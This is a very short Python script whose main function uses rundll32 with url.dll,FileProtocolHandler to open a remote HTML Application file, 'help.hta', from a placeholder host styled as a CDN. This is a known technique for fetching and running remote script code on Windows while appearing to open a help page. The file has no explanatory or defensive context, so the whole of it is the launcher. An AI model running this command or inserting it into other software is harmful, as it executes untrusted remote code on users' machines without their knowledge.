import subprocess

def main():
    subprocess.run(["rundll32", "url.dll,FileProtocolHandler", "https://cdn.winopen.example.net/help.hta"])
